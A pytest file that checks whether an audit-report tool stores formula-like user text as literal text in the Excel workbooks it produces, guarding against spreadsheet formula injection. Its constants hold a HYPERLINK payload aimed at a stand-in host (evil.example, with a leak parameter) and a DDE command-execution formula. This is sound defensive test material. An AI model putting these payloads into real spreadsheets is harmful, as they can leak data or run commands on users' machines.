"""Hostile content in what we write: text typed by a person never runs in a workbook we make."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import subprocess
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from cssw_docs.cli import cli
from cssw_docs.config import Settings
from cssw_docs.oversight import report, sample
from cssw_docs.rubric import Rubric
from cssw_docs.store.db import connect as connect_ledger
from cssw_docs.workbook.literal import looks_like_formula

LINK = '=HYPERLINK("http://evil.example/?leak=1","Click here")'
DDE = "=cmd|' /C calc'!A0"
# What an auditor might type (or paste) into any free-text cell, each a formula somewhere.
HOSTILE = (LINK, DDE, "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\uff1d1+1", " =1+1")


def _hostile_ledger(folder: Path, rubric: Rubric) -> Path:
    """Write a ledger whose audits carry hostile text in every free-text field a report copies."""
    rows = []
    for i, row in enumerate(sample.audits(rubric, 40, seed=6)):
        pick = [HOSTILE[(i + k) % len(HOSTILE)] for k in range(6)]
        sub = dataclasses.replace(
            row.submission,
            audit_theme=pick[0],
            team=pick[1],
            auditor_name=pick[2],
            practitioner_name=pick[3],
            storyboard_title=pick[4] if row.submission.storyboard_title else "",
            actions=tuple(
                dataclasses.replace(a, action=pick[5], owner=pick[0])
                for a in row.submission.actions
            ),
        )
        rows.append(dataclasses.replace(row, submission=sub))
    db = folder / "ledger.sqlite3"
    conn = connect_ledger(db)
    sample.write(conn, rows)
    conn.close()
    return db


def _cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    wb = openpyxl.load_workbook(path, data_only=False)
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def _lo_csv_values(soffice: str, source: Path, outdir: Path) -> set[str]:
    """Return every cell text LibreOffice shows for ``source``, all sheets, as CSV."""
    outdir.mkdir(parents=True, exist_ok=True)
    profile = outdir / "lo-profile"
    subprocess.run(
        [soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--convert-to",
         "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
         "--outdir", str(outdir), str(source)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    values: set[str] = set()
    for sheet in outdir.glob(f"{source.stem}*.csv"):
        with sheet.open(encoding="utf-8", newline="") as fh:
            values.update(v for row in csv.reader(fh) for v in row)
    assert values, "LibreOffice wrote no CSV"
    return values


def _assert_kept_as_text(path: Path, soffice: str, outdir: Path) -> None:
    cells = _cells(path)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    written = {c.value for c in cells if isinstance(c.value, str)}
    for text in HOSTILE:
        assert text in written, f"{text!r} is missing from {path.name}"
    risky = [c for c in cells if isinstance(c.value, str) and c.value in HOSTILE]
    assert all(c.quotePrefix for c in risky), "formula-like text lacks Excel's quote prefix"
    shown = _lo_csv_values(soffice, path, outdir)
    for text in (LINK, DDE, "+1+1", "-1+1", "@SUM(1,1)", "\uff1d1+1"):
        assert text in shown, f"LibreOffice does not show {text!r} as typed"
    assert "Click here" not in shown  # the HYPERLINK was not evaluated


@pytest.mark.slow
def test_activity_report_stores_formula_like_text_as_text(
    tmp_path: Path, the_rubric: Rubric, soffice: str
) -> None:
    """Themes, teams, names and actions starting =, +, -, @ are text in the activity report."""
    db = _hostile_ledger(tmp_path, the_rubric)
    written = report.build(db, the_rubric, Settings(), start=dt.date(2026, 1, 1),
                           end=dt.date(2026, 12, 31), dest=tmp_path / "activity",
                           as_of=dt.date(2026, 9, 1), docx=False)  # fmt: skip
    _assert_kept_as_text(written.xlsx, soffice, tmp_path / "lo")


@pytest.mark.slow
def test_moderation_workbook_stores_formula_like_text_as_text(
    tmp_path: Path, the_rubric: Rubric, soffice: str
) -> None:
    """`moderation list --xlsx` writes the panel's workbook with hostile text as text."""
    state = tmp_path / "state"
    state.mkdir()
    _hostile_ledger(state, the_rubric)
    config = tmp_path / "cssw-docs.toml"
    config.write_text(f'[service]\nstate_dir = "{state.as_posix()}"\n', "utf-8")
    out = tmp_path / "panel.xlsx"
    result = CliRunner().invoke(
        cli, ["--config", str(config), "moderation", "list", "--xlsx", str(out)]
    )
    assert result.exit_code == 0, result.output
    cells = _cells(out)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert LINK in {c.value for c in cells}
    shown = _lo_csv_values(soffice, out, tmp_path / "lo")
    assert LINK in shown and DDE in shown and "Click here" not in shown


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", True),
        ("+44 20 7974 4444", True),
        ("-5", True),
        ("@SUM(A1)", True),
        ("\t=1", True),
        ("\r\n=1", True),
        ("\uff1dSUM(1)", True),  # full-width equals sign
        ("\uff0b1", True),
        ("\uff0d1", True),
        ("\uff20SUM(1)", True),
        ("   =1", True),
        ("Amara said = fine", False),
        ("", False),
        ("   ", False),
        ("\u2013 en dash", False),
    ],
)
def test_formula_like_text_is_recognised(text: str, expected: bool) -> None:
    """The one rule every writer uses says which text a spreadsheet could run."""
    assert looks_like_formula(text) is expected
